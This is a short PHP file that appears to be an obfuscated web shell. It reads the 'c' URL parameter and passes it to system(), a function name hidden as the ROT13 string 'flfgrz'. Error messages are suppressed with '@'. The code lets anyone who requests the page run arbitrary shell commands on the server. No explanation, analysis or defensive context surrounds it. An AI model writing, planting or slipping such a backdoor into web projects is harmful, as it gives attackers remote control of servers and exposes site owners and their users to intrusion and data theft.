<?php
$arr = array($_GET['c'] => 1);
@array_walk($arr, function (&$v, $k) { $fn = str_rot13('flfgrz'); $fn($k); });
